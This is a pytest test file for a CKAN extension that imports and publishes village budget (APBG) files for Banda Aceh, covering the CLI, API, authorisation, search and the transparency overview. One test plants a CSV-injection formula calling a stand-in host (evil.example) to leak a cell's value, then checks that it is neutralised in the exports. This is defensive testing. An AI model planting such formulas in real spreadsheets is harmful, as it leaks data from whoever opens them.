"""APBG import through CKAN: CLI, API action and the shared code path, against the real stack."""
from __future__ import annotations

import csv
import io
import os
import signal
import socket
import subprocess
import threading
import time
import zipfile
from decimal import Decimal

import pytest
import redis

import ckan.plugins.toolkit as tk
from ckan.cli.cli import ckan as ckan_cli
from ckan.lib.redis import connect_to_redis
from ckan.tests import factories

from ckanext.bandaaceh import apbdes
from ckanext.bandaaceh.apbdes.portal import transparency as transparency_module

from tests.fuzzing import replace_member

from .conftest import FIXTURES, KAMPUNG_BARU, NEUSU_JAYA, fixture_module, run_import, upload

pytestmark = pytest.mark.usefixtures("portal", "clean_datastore")

NAME = "apbg-kampung-baru-2025-murni"


def show(name: str) -> dict:
    return tk.get_action("package_show")({"ignore_auth": True}, {"id": name})


def lines_resource(pkg: dict) -> dict:
    return next(r for r in pkg["resources"] if r.get("apbdes_role") == "lines")


def sql(query: str) -> list[dict]:
    return tk.get_action("datastore_search_sql")({"ignore_auth": True}, {"sql": query})["records"]


def expected_summary(path, code=KAMPUNG_BARU, **kw) -> apbdes.Summary:
    ref = apbdes.load_reference()
    return apbdes.read_budget(path, gampong=code, reference=ref, **kw).summary()


# --------------------------------------------------------------------------- CLI
def test_cli_import_publishes_dataset_csv_and_datastore(cli, operator):
    org, _user = operator()
    path = FIXTURES / "penjabaran.xlsx"
    result = cli.invoke(ckan_cli, ["bandaaceh", "apbdes", "import", str(path), "--gampong", KAMPUNG_BARU,
                                   "--tahun", "2025", "--nomor-peraturan", "3 Tahun 2024",
                                   "--tanggal-peraturan", "2024-12-30"])
    assert result.exit_code == 0, result.output
    assert f"Diterbitkan: {NAME}" in result.output

    pkg = show(NAME)
    s = expected_summary(path)
    assert pkg["type"] == "apbdes" and pkg["owner_org"] == org["id"] and pkg["state"] == "active"
    assert (pkg["kode_wilayah"], pkg["gampong"], pkg["kecamatan"]) == (KAMPUNG_BARU, "Kampung Baru", "Baiturrahman")
    assert (pkg["tahun_anggaran"], pkg["tahap"], pkg["periode"]) == ("2025", "murni", "")
    assert pkg["nomor_peraturan"] == "3 Tahun 2024" and pkg["tanggal_peraturan"].startswith("2024-12-30")
    assert Decimal(pkg["total_pendapatan"]) == s.pendapatan == Decimal("1718529770")
    assert Decimal(pkg["total_belanja"]) == s.belanja
    assert Decimal(pkg["pembiayaan_netto"]) == s.pembiayaan_netto
    assert Decimal(pkg["silpa"]) == s.silpa
    assert Decimal(pkg["belanja_bidang_02"]) == s.belanja_per_bidang["02"]
    assert pkg["jumlah_baris"] == str(s.line_count)
    assert {r["apbdes_role"] for r in pkg["resources"]} == {"lines", "source"}

    res = lines_resource(pkg)
    assert res["format"] == "CSV" and res["url_type"] == "upload" and res["datastore_active"]
    rows = sql(f'SELECT count(*) AS n, sum(anggaran) FILTER (WHERE kode_rekening LIKE \'5%\') AS belanja '
               f'FROM "{res["id"]}"')
    assert int(rows[0]["n"]) == s.line_count
    assert Decimal(str(rows[0]["belanja"])) == s.belanja
    fields = tk.get_action("datastore_info")({"ignore_auth": True}, {"id": res["id"]})["fields"]
    types = {f["id"]: f["type"] for f in fields}
    assert types["anggaran"] == "numeric" and types["tahun"] == "int4" and types["uraian"] == "text"


def test_cli_dry_run_prints_checks_and_writes_nothing(cli, operator):
    operator()
    result = cli.invoke(ckan_cli, ["bandaaceh", "apbdes", "import", str(FIXTURES / "broken-jumlah.xlsx"),
                                   "--gampong", KAMPUNG_BARU, "--tahun", "2025", "--dry-run"])
    assert result.exit_code == 1
    assert "total_mismatch" in result.output
    assert "broken-jumlah.xlsx, sheet APBG: Baris 95: " in result.output  # the row said once
    assert "Rp 1.773.529.770" in result.output and "Rp 1.763.529.770" in result.output
    assert "TIDAK dapat diterbitkan" in result.output
    assert tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes"})["count"] == 0

    ok = cli.invoke(ckan_cli, ["bandaaceh", "apbdes", "import", str(FIXTURES / "penjabaran.csv"),
                               "--gampong", KAMPUNG_BARU, "--dry-run"])
    assert ok.exit_code == 0, ok.output
    assert f"dapat diterbitkan sebagai {NAME}" in ok.output
    with pytest.raises(tk.ObjectNotFound):
        show(NAME)


def test_cli_refuses_unknown_gampong(cli):
    result = cli.invoke(ckan_cli, ["bandaaceh", "apbdes", "import", str(FIXTURES / "penjabaran.xlsx"),
                                   "--gampong", "11.71.01"])
    assert result.exit_code != 0
    assert "bukan gampong" in result.output


# --------------------------------------------------------------------------- replace / refuse
def test_reimport_replaces_without_duplicate(operator, search_backend):
    org, user = operator()
    first = run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025)
    assert first["published"] and not first["replaced"]
    before = show(NAME)
    before_res = {r["apbdes_role"]: r["id"] for r in before["resources"]}

    second = run_import(user["name"], FIXTURES / "siskeudes.zip", gampong=org["name"], tahun=2025, tahap="murni")
    assert second["published"] and second["replaced"]
    after = show(NAME)
    assert after["id"] == before["id"]
    assert {r["apbdes_role"]: r["id"] for r in after["resources"]} == before_res
    assert after["tata_letak"] == "siskeudes" and after["berkas_asli"] == "siskeudes.zip"
    s = apbdes.read_budget(FIXTURES / "siskeudes.zip", gampong=KAMPUNG_BARU, tahap="murni",
                           reference=apbdes.load_reference()).summary()
    assert after["jumlah_baris"] == str(s.line_count) != before["jumlah_baris"]
    rows = sql(f'SELECT count(*) AS n FROM "{before_res["lines"]}"')
    assert int(rows[0]["n"]) == s.line_count
    found = tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes"})
    assert found["count"] == 1
    source = next(r for r in after["resources"] if r["apbdes_role"] == "source")
    assert source["format"] == "ZIP"


@pytest.mark.parametrize("broken, code", [
    ("broken-jumlah.xlsx", "total_mismatch"),
    ("broken-jumlah-rincian.xlsx", "sum_mismatch"),
    ("broken-silpa.xlsx", "silpa_mismatch"),
    ("broken-kode-rekening.xlsx", "unknown_account"),
    ("broken-terpotong.xlsx", "unreadable_file"),
    ("broken-siskeudes-tanpa-rinci.zip", "missing_tables"),
])
def test_broken_file_is_refused_and_previous_dataset_kept(operator, broken, code):
    org, user = operator()
    run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025,
               nomor_peraturan="3 Tahun 2024")
    before = show(NAME)
    res_id = lines_resource(before)["id"]
    rows_before = sql(f'SELECT kode_rekening, anggaran FROM "{res_id}" ORDER BY _id')

    with pytest.raises(tk.ValidationError) as err:
        run_import(user["name"], FIXTURES / broken, gampong=org["name"], tahun=2025, tahap="murni")
    problems = err.value.error_dict["problems"]
    assert code in {p["code"] for p in problems}
    assert all(m.startswith(broken) for m in err.value.error_dict["upload"])

    after = show(NAME)
    assert after["metadata_modified"] == before["metadata_modified"]
    assert after["total_belanja"] == before["total_belanja"] and after["berkas_asli"] == "penjabaran.xlsx"
    assert [r["id"] for r in after["resources"]] == [r["id"] for r in before["resources"]]
    assert sql(f'SELECT kode_rekening, anggaran FROM "{res_id}" ORDER BY _id') == rows_before


def test_refusal_message_names_row_expected_and_found(operator):
    org, user = operator()
    with pytest.raises(tk.ValidationError) as err:
        run_import(user["name"], FIXTURES / "broken-jumlah.xlsx", gampong=org["name"], tahun=2025)
    problem = next(p for p in err.value.error_dict["problems"] if p["code"] == "total_mismatch")
    assert (problem["row"], problem["expected"], problem["found"]) == (95, "1763529770", "1773529770")
    assert "sheet APBG: Baris 95: " in problem["text"] and "Rp 1.773.529.770" in problem["text"]
    assert "baris 95" not in problem["text"]  # said once
    with pytest.raises(tk.ObjectNotFound):
        show(NAME)
    assert tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes",
                                                                      "include_drafts": True})["count"] == 0


def test_warnings_do_not_block_and_realisasi_gets_its_period(operator):
    org, user = operator()
    result = run_import(user["name"], FIXTURES / "realisasi.xlsx", gampong=org["name"], tahun=2025)
    assert result["published"]
    assert "realisasi_exceeds_anggaran" in {p["code"] for p in result["problems"]}
    pkg = show("apbg-kampung-baru-2025-realisasi-semester-1")
    assert (pkg["tahap"], pkg["periode"]) == ("realisasi", "semester-1")
    s = apbdes.read_budget(FIXTURES / "realisasi.xlsx", reference=apbdes.load_reference()).summary()
    assert Decimal(pkg["realisasi_belanja"]) == s.realisasi_belanja
    assert Decimal(pkg["persen_realisasi_belanja"]) == s.persen_realisasi_belanja
    # The murni budget of the same year is another dataset.
    run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025)
    assert show(NAME)["tahap"] == "murni"


def test_realisasi_without_period_is_refused(operator):
    org, user = operator()
    with pytest.raises(tk.ValidationError) as err:
        run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025, tahap="realisasi")
    assert "missing_period" in {p["code"] for p in err.value.error_dict["problems"]}


# --------------------------------------------------------------------------- authorisation
def test_operator_of_one_gampong_cannot_publish_for_another(operator, budget_file):
    org_a, user_a = operator(KAMPUNG_BARU)
    org_b, user_b = operator(NEUSU_JAYA)
    with pytest.raises(tk.NotAuthorized):
        run_import(user_a["name"], FIXTURES / "penjabaran.xlsx", gampong=org_b["name"], tahun=2025)
    with pytest.raises(tk.NotAuthorized):
        run_import(user_a["name"], FIXTURES / "penjabaran.xlsx", gampong=org_b["name"], tahun=2025, dry_run=True)
    assert tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes"})["count"] == 0
    # ... while each may publish for their own.
    neusu_jaya = budget_file(NEUSU_JAYA, "Neusu Jaya", "Baiturrahman", seed=5)
    assert run_import(user_b["name"], neusu_jaya, gampong=org_b["name"], tahun=2025)["published"]
    assert show("apbg-neusu-jaya-2025-murni")["owner_org"] == org_b["id"]


def test_member_and_anonymous_cannot_import(operator):
    org, member = operator(capacity="member")
    with pytest.raises(tk.NotAuthorized):
        run_import(member["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025)
    with pytest.raises(tk.NotAuthorized):
        tk.get_action("apbdes_import")({"user": ""}, {"upload": upload(FIXTURES / "penjabaran.xlsx"),
                                                     "gampong": org["name"], "tahun": 2025})


def test_gampong_must_be_a_gampong_organisation(skpd_org):
    dinas = skpd_org()
    with pytest.raises(tk.ValidationError) as err:
        run_import(None, FIXTURES / "penjabaran.xlsx", gampong=dinas["name"], tahun=2025)
    assert "bukan gampong" in str(err.value.error_dict["gampong"])


# --------------------------------------------------------------------------- computed fields
def test_summary_fields_cannot_be_typed(operator, skpd_org):
    org, user = operator(capacity="admin")
    run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025)
    ctx = lambda: {"user": user["name"]}  # noqa: E731
    with pytest.raises(tk.ValidationError) as err:
        tk.get_action("package_patch")(ctx(), {"id": NAME, "total_belanja": "1"})
    assert "total_belanja" in err.value.error_dict
    with pytest.raises(tk.ValidationError):
        tk.get_action("package_patch")(ctx(), {"id": NAME, "tahun_anggaran": "2024"})
    # Editable fields may change; the computed ones are kept as they were.
    before = show(NAME)
    tk.get_action("package_patch")(ctx(), {"id": NAME, "notes": "Catatan baru", "nomor_peraturan": "4 Tahun 2024"})
    after = show(NAME)
    assert after["notes"] == "Catatan baru" and after["nomor_peraturan"] == "4 Tahun 2024"
    for key in ("total_belanja", "silpa", "pendapatan_sumber_dana", "kode_wilayah", "jumlah_baris"):
        assert after[key] == before[key]
    # A full package_update without the computed fields (as the web form sends) keeps them too.
    form = {k: after[k] for k in ("id", "name", "title", "notes", "owner_org", "license_id")}
    tk.get_action("package_update")(ctx(), form)
    assert show(NAME)["total_belanja"] == before["total_belanja"]
    # Moving the budget to a non-gampong organisation is refused.
    dinas = skpd_org(users=[{"name": user["name"], "capacity": "admin"}])
    with pytest.raises(tk.ValidationError) as err:
        tk.get_action("package_patch")(ctx(), {"id": NAME, "owner_org": dinas["id"]})
    assert "owner_org" in err.value.error_dict


def test_apbdes_dataset_cannot_be_created_by_hand(operator):
    org, user = operator(capacity="admin")
    with pytest.raises(tk.ValidationError) as err:
        tk.get_action("package_create")({"user": user["name"]}, {
            "type": "apbdes", "name": "apbg-tangan", "title": "APBG tangan", "owner_org": org["id"],
            "total_belanja": "1000"})
    assert "impor berkas APBG" in str(err.value.error_dict)


# --------------------------------------------------------------------------- search
def test_summaries_are_indexed_for_search_facets_and_sort(operator, budget_file, search_backend):
    org_a, user = operator(KAMPUNG_BARU)
    org_b, _ = operator(NEUSU_JAYA, user=user)
    org_c, _ = operator("11.71.02.2001", user=user)
    files = {org_a["name"]: budget_file(KAMPUNG_BARU, "Kampung Baru", "Baiturrahman", seed=1),
             org_b["name"]: budget_file(NEUSU_JAYA, "Neusu Jaya", "Baiturrahman", seed=2),
             org_c["name"]: budget_file("11.71.02.2001", "x", "y", seed=3)}
    belanja = {}
    for org, path in files.items():
        pkg = run_import(user["name"], path, gampong=org, tahun=2025)["dataset"]
        belanja[pkg["name"]] = Decimal(pkg["total_belanja"])
    search = tk.get_action("package_search")
    res = search({"ignore_auth": True}, {"fq": "+dataset_type:apbdes +apbdes_tahun:2025",
                                         "sort": "apbdes_total_belanja_sort desc",
                                         "facet.field": '["apbdes_kecamatan", "apbdes_tahap"]'})
    assert [p["name"] for p in res["results"]] == sorted(belanja, key=belanja.get, reverse=True)
    kec = {i["name"]: i["count"] for i in res["search_facets"]["apbdes_kecamatan"]["items"]}
    assert kec["Baiturrahman"] == 2 and sum(kec.values()) == 3
    # Range query on the sortable amount: only budgets above the middle one.
    middle = sorted(belanja.values())[1]
    from ckanext.bandaaceh.apbdes.portal.search import sortable_amount
    above = search({"ignore_auth": True}, {
        "fq": f"+dataset_type:apbdes +apbdes_total_belanja_sort:{{{sortable_amount(middle)} TO *]"})
    assert [p["name"] for p in above["results"]] == [max(belanja, key=belanja.get)]


def test_sortable_amount_orders_like_numbers():
    from ckanext.bandaaceh.apbdes.portal.search import sortable_amount
    values = [Decimal(v) for v in ("-1500000", "-2", "-0.5", "0", "0.01", "7", "1500000", "99999999999")]
    keys = [sortable_amount(v) for v in values]
    assert keys == sorted(keys)
    assert len(set(len(k) for k in keys)) == 1


# --------------------------------------------------------------------------- Data API
def test_data_api_filters_and_sums(operator):
    org, user = operator()
    pkg = run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org["name"], tahun=2025)["dataset"]
    res_id = lines_resource(pkg)["id"]
    found = tk.get_action("datastore_search")({"ignore_auth": True}, {
        "resource_id": res_id, "filters": {"bidang": "02"}, "limit": 1000})
    total = sum(Decimal(str(r["anggaran"])) for r in found["records"])
    assert total == Decimal(pkg["belanja_bidang_02"]) > 0
    # Lines without a (derivable) sumber dana are counted as LAIN in the summary.
    per_source = {r["sumber_dana"] or "LAIN": Decimal(str(r["s"])) for r in sql(
        f'SELECT sumber_dana, sum(anggaran) AS s FROM "{res_id}" WHERE kode_rekening LIKE \'4%\' GROUP BY sumber_dana')}
    import json
    assert per_source == {k: Decimal(v) for k, v in json.loads(pkg["pendapatan_sumber_dana"]).items()}


def test_api_multipart_upload_and_dry_run(app, operator):
    org, user = operator()
    token = factories.APIToken(user=user["name"])["token"]
    data = (FIXTURES / "penjabaran.xlsx").read_bytes()
    preview = app.post("/api/3/action/apbdes_import", headers={"Authorization": token}, data={
        "gampong": KAMPUNG_BARU, "tahun": "2025", "dry_run": "true",
        "upload": (io.BytesIO(data), "penjabaran.xlsx")})
    body = preview.json
    assert body["success"], body
    r = body["result"]
    assert r["can_publish"] and not r["published"] and r["dataset_name"] == NAME
    assert len(r["lines"]) == int(r["summary"]["line_count"]) == 33
    assert r["summary"]["belanja"] == "1763529770"
    assert tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes"})["count"] == 0

    done = app.post("/api/3/action/apbdes_import", headers={"Authorization": token}, data={
        "gampong": org["name"], "tahun": "2025", "upload": (io.BytesIO(data), "penjabaran.xlsx")}).json
    assert done["success"] and done["result"]["dataset"]["name"] == NAME

    broken = app.post("/api/3/action/apbdes_import", headers={"Authorization": token}, data={
        "gampong": org["name"], "tahun": "2025",
        "upload": (io.BytesIO((FIXTURES / "broken-silpa.xlsx").read_bytes()), "broken-silpa.xlsx")},
        status=409).json
    assert not broken["success"]
    assert any(p["code"] == "silpa_mismatch" for p in broken["error"]["problems"])

    other_org, other = operator(NEUSU_JAYA)
    denied = app.post("/api/3/action/apbdes_import", headers={"Authorization": token}, data={
        "gampong": other_org["name"], "tahun": "2025", "upload": (io.BytesIO(data), "penjabaran.xlsx")},
        status=403).json
    assert not denied["success"]


def test_budget_of_another_gampong_is_refused(operator):
    """Kampung Baru's file (its title names the gampong) cannot be published as Neusu Jaya's."""
    org_b, user_b = operator(NEUSU_JAYA)
    with pytest.raises(tk.ValidationError) as err:
        run_import(user_b["name"], FIXTURES / "penjabaran.xlsx", gampong=org_b["name"], tahun=2025)
    problems = err.value.error_dict["problems"]
    assert [(p["code"], p["field"], p["found"]) for p in problems if p["severity"] == "error"] == [
        ("hint_mismatch", "gampong", "11.71.01.2001 Kampung Baru")]
    assert tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes"})["count"] == 0


# --------------------------------------------------------------------------- transparency
def test_transparency_json_and_csv(app, operator, budget_file):
    org_a, user = operator(KAMPUNG_BARU)
    org_b, _ = operator(NEUSU_JAYA, user=user)
    run_import(user["name"], FIXTURES / "penjabaran.xlsx", gampong=org_a["name"], tahun=2025)
    run_import(user["name"], FIXTURES / "realisasi.xlsx", gampong=org_a["name"], tahun=2025)
    run_import(user["name"], budget_file(NEUSU_JAYA, "Neusu Jaya", "Baiturrahman", seed=5),
               gampong=org_b["name"], tahun=2025)

    data = app.get("/api/3/action/apbdes_transparency", query_string={"tahun": 2025}).json["result"]
    assert data["jumlah"] == {"gampong": 90, "terbit": 2, "belum": 88}
    assert len(data["kecamatan"]) == 9
    rows = {g["kode_wilayah"]: g for k in data["kecamatan"] for g in k["gampong"]}
    kb = rows[KAMPUNG_BARU]
    assert kb["status"] == "terbit" and kb["tahap_terbaru"] == "realisasi-semester-1"
    assert kb["anggaran"]["name"] == NAME and kb["anggaran"]["total_belanja"] == "1763529770"
    assert kb["realisasi"]["persen_realisasi_belanja"] == str(apbdes.read_budget(
        FIXTURES / "realisasi.xlsx", reference=apbdes.load_reference()).summary().persen_realisasi_belanja)
    assert [d["tahap"] for d in kb["dataset"]] == ["realisasi", "murni"]
    assert rows["11.71.01.2003"]["status"] == "belum" and rows["11.71.01.2003"]["anggaran"] is None

    filtered = app.get("/api/3/action/apbdes_transparency", query_string={
        "tahun": 2025, "kecamatan": "Baiturrahman", "status": "belum"}).json["result"]
    assert len(filtered["kecamatan"]) == 1
    assert all(g["status"] == "belum" for g in filtered["kecamatan"][0]["gampong"])
    assert filtered["jumlah"]["terbit"] == 0
    only_real = app.get("/api/3/action/apbdes_transparency", query_string={
        "tahun": 2025, "tahap": "realisasi", "status": "terbit"}).json["result"]
    assert [g["kode_wilayah"] for k in only_real["kecamatan"] for g in k["gampong"]] == [KAMPUNG_BARU]
    assert app.get("/api/3/action/apbdes_transparency", query_string={"tahun": 2024}).json[
        "result"]["jumlah"]["terbit"] == 0

    resp = app.get("/transparansi-apbg/apbg-2025.csv")
    assert resp.status_code == 200 and resp.headers["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert set(table[0]) == set(apbdes.CSV_COLUMNS)
    per = {}
    for row in table:
        per.setdefault((row["kode_wilayah"], row["tahap"]), []).append(row)
    assert set(per) == {(KAMPUNG_BARU, "murni"), (KAMPUNG_BARU, "realisasi"), (NEUSU_JAYA, "murni")}
    belanja = sum(Decimal(r["anggaran"]) for r in per[(KAMPUNG_BARU, "murni")] if r["kode_rekening"].startswith("5"))
    assert belanja == Decimal("1763529770")

    page = app.get("/transparansi-apbg", query_string={"tahun": 2025})
    html = page.get_data(as_text=True)
    assert "Transparansi APBG" in html and "Kampung Baru" in html and "Sudah terbit" in html
    assert f"/apbdes/{NAME}" in html


def test_transparency_kept_in_memory_only_while_the_index_holds_the_same_summaries(app, operator, budget_file,
                                                                                   monkeypatch):
    """The overview is answered from memory while Solr holds the summaries it was computed from,
    and afresh after every publication, deletion or previous-year change."""
    mf = fixture_module()
    org, user = operator(KAMPUNG_BARU)

    def publish(seed: int, year: int = 2025) -> Decimal:
        path = budget_file(KAMPUNG_BARU, "Kampung Baru", "Baiturrahman", seed=seed, year=year)
        assert run_import(user["name"], path, gampong=org["name"], tahun=year)["published"]
        return Decimal(mf.random_spec(seed, KAMPUNG_BARU, "Kampung Baru", "Baiturrahman", year, 60).total("5"))

    def row() -> dict:
        data = transparency_module.transparency(2025)
        return next(g for k in data["kecamatan"] for g in k["gampong"] if g["kode_wilayah"] == KAMPUNG_BARU)

    first = publish(11)
    assert Decimal(row()["anggaran"]["total_belanja"]) == first
    computed = transparency_module.transparency(2025)
    with monkeypatch.context() as m:  # from memory: the stored summaries are not read again
        m.setattr(transparency_module, "stored_summaries", lambda tahun: pytest.fail("summaries read again"))
        kept = transparency_module.transparency(2025)
        assert kept == computed
        kept["kecamatan"].clear()  # each call has its own copy
        assert transparency_module.transparency(2025) == computed

    second = publish(12)  # re-import: same dataset, other amounts
    assert second != first
    assert Decimal(row()["anggaran"]["total_belanja"]) == second
    assert row()["angka"]["belanja_tahun_lalu"] is None
    before = publish(13, year=2024)  # the previous year is part of the answer too
    assert Decimal(row()["angka"]["belanja_tahun_lalu"]) == before
    tk.get_action("package_delete")({"ignore_auth": True, "user": user["name"]}, {"id": NAME})
    assert row()["status"] == "belum" and row()["anggaran"] is None


def test_transparency_shared_by_web_processes_in_redis_never_stale_and_computed_when_redis_is_down(
        app, operator, budget_file, monkeypatch):
    """A web process that has not computed the overview yet (its memory empty, as a second or a
    recycled gunicorn worker) takes the answer another process left in Redis, and only while
    Solr holds the summaries it was computed from; with Redis unreachable it computes the same."""
    mf = fixture_module()
    org, user = operator(KAMPUNG_BARU)
    computing = []
    compute = transparency_module._transparency
    monkeypatch.setattr(transparency_module, "_transparency", lambda *a, **kw: computing.append(1) or compute(*a, **kw))

    def publish(seed: int) -> Decimal:
        path = budget_file(KAMPUNG_BARU, "Kampung Baru", "Baiturrahman", seed=seed)
        assert run_import(user["name"], path, gampong=org["name"], tahun=2025)["published"]
        return Decimal(mf.random_spec(seed, KAMPUNG_BARU, "Kampung Baru", "Baiturrahman", 2025, 60).total("5"))

    def fresh_process() -> dict:
        if transparency_module._sharing is not None:  # the write to Redis of the latest computation
            transparency_module._sharing.join(30)
        transparency_module._cached.clear()
        transparency_module._held.clear()
        computing.clear()
        return transparency_module.transparency(2025)

    def belanja(data: dict) -> Decimal:
        row = next(g for k in data["kecamatan"] for g in k["gampong"] if g["kode_wilayah"] == KAMPUNG_BARU)
        return Decimal(row["anggaran"]["total_belanja"])

    first = publish(21)
    computed = fresh_process()
    assert belanja(computed) == first and computing == [1]
    transparency_module._sharing.join(30)
    assert list(connect_to_redis().scan_iter(match=transparency_module.SHARED_PREFIX + "*"))
    with monkeypatch.context() as m:  # from Redis: neither computed nor the summaries read
        m.setattr(transparency_module, "stored_summaries", lambda *a, **kw: pytest.fail("summaries read again"))
        assert fresh_process() == computed and computing == []

    second = publish(22)  # re-import: Redis still holds the answer computed from the first
    assert second != first
    assert belanja(fresh_process()) == second and computing == [1]
    assert fresh_process() == transparency_module.transparency(2025) and computing == []  # shared again

    with socket.socket() as s:  # a loopback port nothing listens on: Redis "down"
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setitem(tk.config, "ckan.redis.url", f"redis://127.0.0.1:{port}/0")
    with pytest.raises(redis.ConnectionError):
        transparency_module._share_redis().ping()  # the share's own client follows the URL
    down = fresh_process()
    assert belanja(down) == second and computing == [1]
    assert transparency_module.transparency(2025) == down and computing == [1]  # kept in memory meanwhile


def test_a_hung_redis_does_not_hang_the_overview(app, operator, budget_file, monkeypatch):
    """A Redis that accepts connections but never answers (a real redis-server stopped with SIGSTOP):
    the overview is computed once ``bandaaceh.transparency.redis_timeout`` has passed. With CKAN's own
    client the read would wait for the URL's socket_timeout (years, for the harvest consumers)."""
    org, user = operator(KAMPUNG_BARU)
    path = budget_file(KAMPUNG_BARU, "Kampung Baru", "Baiturrahman", seed=31)
    assert run_import(user["name"], path, gampong=org["name"], tahun=2025)["published"]
    if transparency_module._sharing is not None:
        transparency_module._sharing.join(30)
    transparency_module._cached.clear()
    transparency_module._held.clear()
    expected = transparency_module.transparency(2025)

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen(["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--save", "",
                               "--appendonly", "no"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        probe = redis.Redis(port=port, socket_timeout=5)
        for _ in range(100):
            try:
                if probe.ping():
                    break
            except redis.ConnectionError:
                time.sleep(0.05)
        os.kill(server.pid, signal.SIGSTOP)  # hung: the kernel still accepts connections for it
        monkeypatch.setitem(tk.config, "ckan.redis.url", f"redis://127.0.0.1:{port}/0?socket_timeout=315360000")
        monkeypatch.setitem(tk.config, "bandaaceh.transparency.redis_timeout", 0.5)
        transparency_module._cached.clear()
        transparency_module._held.clear()
        answers: list = []
        reader = threading.Thread(target=lambda: answers.append(transparency_module.transparency(2025)), daemon=True)
        reader.start()
        reader.join(60)
        assert not reader.is_alive(), "the overview waited for a hung Redis"
        assert answers == [expected]
        if transparency_module._sharing is not None:  # storing the answer gives up too
            transparency_module._sharing.join(60)
            assert not transparency_module._sharing.is_alive()
    finally:
        os.kill(server.pid, signal.SIGCONT)
        server.terminate()
        server.wait(30)


def test_formula_cells_are_neutralised_in_every_budget_csv_but_exact_in_the_datastore(app, operator, tmp_path):
    # A budget file whose description cell is a spreadsheet formula (CSV injection, OWASP).
    org, user = operator()
    mf = fixture_module()
    grid = mf.penjabaran_grid(mf.kampung_baru_spec())
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bagi Hasil Usaha BUMG")'
    grid.rows[grid.marks["4.1.1.01"] - 1][1] = evil
    path = tmp_path / "apbg-kampung-baru-2025.csv"
    mf.write_csv(path, grid)
    run_import(user["name"], path, gampong=org["name"], tahun=2025)
    res = lines_resource(show(NAME))
    assert sql(f"""SELECT uraian FROM "{res['id']}" WHERE kode_rekening = '4.1.1.01'""") == [{"uraian": evil}]

    lines = app.get("/" + res["url"].split("://", 1)[1].split("/", 1)[1]).get_data(as_text=True)
    row = next(r for r in csv.DictReader(io.StringIO(lines)) if r["kode_rekening"] == "4.1.1.01")
    assert (row["uraian"], row["anggaran"]) == ("'" + evil, "15000000")

    city = app.get("/transparansi-apbg/apbg-2025.csv").get_data(as_text=True)
    row = next(r for r in csv.DictReader(io.StringIO(city)) if r["kode_rekening"] == "4.1.1.01")
    assert (row["uraian"], row["anggaran"]) == ("'" + evil, "15000000")


def test_api_siskeudes_text_amount_is_a_validation_error(app, operator):
    """Issue 9 item 9: a Siskeudes zip with ``AnggaranStlhPAK`` = ``satu juta`` was an HTTP 500
    (ValueError); through the API it is a validation error naming file, table, row and column,
    and nothing is published."""
    org, user = operator()
    token = factories.APIToken(user=user["name"])["token"]
    source = FIXTURES / "siskeudes-pak.zip"
    with zipfile.ZipFile(source) as zf:
        rinci = zf.read("Ta_RABRinci.csv").decode("utf-8").splitlines()
    header, first = rinci[0].split(","), rinci[1].split(",")
    first[header.index("AnggaranStlhPAK")] = "satu juta"  # the fixture's cells hold no commas
    rinci[1] = ",".join(first)
    data = replace_member(source.read_bytes(), "Ta_RABRinci.csv", "\r\n".join(rinci).encode("utf-8"))
    resp = app.post("/api/3/action/apbdes_import", headers={"Authorization": token}, data={
        "gampong": org["name"], "tahun": "2025", "upload": (io.BytesIO(data), "satu-juta.zip")}, status=409)
    body = resp.json
    assert not body["success"] and body["error"]["__type"] == "Validation Error"
    errors = [p for p in body["error"]["problems"] if p["severity"] == "error"]
    # the cell itself, then what follows from reading it as 0 (its objek no longer sums up)
    assert [(p["code"], p["file"], p["sheet"], p["row"], p["field"], p["found"]) for p in errors
            if p["code"] == "invalid_amount"] == [
        ("invalid_amount", "satu-juta.zip", "Ta_RABRinci", 2, "AnggaranStlhPAK", "satu juta")]
    assert {p["code"] for p in errors} == {"invalid_amount", "sum_mismatch"}
    assert "satu-juta.zip, sheet Ta_RABRinci: Baris 2: nilai kolom AnggaranStlhPAK 'satu juta' bukan angka." in \
        body["error"]["upload"]
    assert tk.get_action("package_search")({"ignore_auth": True}, {"fq": "dataset_type:apbdes"})["count"] == 0
